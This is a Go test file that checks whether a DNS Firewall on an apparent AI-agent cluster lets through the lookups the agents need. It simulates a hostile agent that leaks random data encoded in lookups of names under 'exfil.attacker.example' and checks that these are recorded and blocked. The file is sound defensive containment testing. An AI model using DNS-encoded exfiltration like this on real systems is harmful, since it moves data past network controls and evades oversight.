package fargate_test

import (
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"

	"github.com/ai-flock/ai-flock/tests/capture"
)

// Every name the replayed flock looked up, held against the DNS Firewall
// rules the captured stack declares (the replay's resolver recurses
// nowhere, so this is how the rules meet what the tasks really ask): each
// name the flock needed (the replay answered it) is one the firewall lets
// through, and a hostile agent's lookups of names carrying data are
// recorded and blocked.
func TestFargateLookupsPassTheDNSFirewall(t *testing.T) {
	need(t)
	g, err := capture.DNSFirewall(stack)
	if err != nil {
		t.Fatal(err)
	}
	// The gateway looks its upstream up when an agent calls the model.
	out := runOperator(t, "task", "--agent", "agent-2", "--json", "--", "/shared/common/bin/ai-agent", "ask", "Which names may I look up?")
	if rs := results(t, out); len(rs) != 1 || rs[0]["status"] != "ok" {
		t.Fatalf("agent-2 asking the model: %v\n%s", rs, out)
	}
	// A hostile agent moves data out in the names it looks up.
	var exfil []string
	for i := 0; i < 5; i++ {
		b := make([]byte, 31)
		_, _ = rand.Read(b)
		name := fmt.Sprintf("%s.%d.exfil.attacker.example", hex.EncodeToString(b), i)
		exfil = append(exfil, name)
		if o, ok := inAgent(t, "agent-1", "dial", name+":443"); ok {
			t.Errorf("agent-1 reached %s: %s", name, o)
		}
	}
	exfil = append(exfil, "x."+ns()+".attacker.example")
	_, _ = inAgent(t, "agent-1", "dial", exfil[len(exfil)-1]+":443")

	lookups := cluster.Lookups()
	families := map[string]int{}
	answered := map[string]bool{}
	for _, l := range lookups {
		v := g.Decide(l.Name)
		if l.Answered {
			answered[l.Name] = true
			families[l.Family]++
			if !v.Allowed {
				t.Errorf("%s (%s) looked up %s %s and needed it (the replay answered), but the DNS firewall would answer NXDOMAIN on AWS: %v", l.Family, l.Task, l.Type, l.Name, v)
			}
		}
	}
	for _, want := range []string{"bus-1." + ns(), "bus-2." + ns(), "bus-3." + ns(), "gateway." + ns(), modelHost} {
		if !answered[want] {
			t.Errorf("no task looked up %s and got an answer: the recorder missed it (recorded: %d lookups)", want, len(lookups))
		}
	}
	for _, name := range exfil {
		seen := false
		for _, l := range lookups {
			if l.Name == name {
				seen = true
				if l.Answered {
					t.Errorf("the replay answered %s", name)
				}
			}
		}
		if !seen {
			t.Errorf("agent-1's lookup of %s was not recorded", name)
		}
		if v := g.Decide(name); v.Allowed {
			t.Errorf("%s: %v: the firewall would let it out", name, v)
		}
	}
	var fs []string
	for f, n := range families {
		fs = append(fs, fmt.Sprintf("%s %d", f, n))
	}
	t.Logf("%d lookups recorded; answered, by task family: %s", len(lookups), strings.Join(fs, ", "))
}
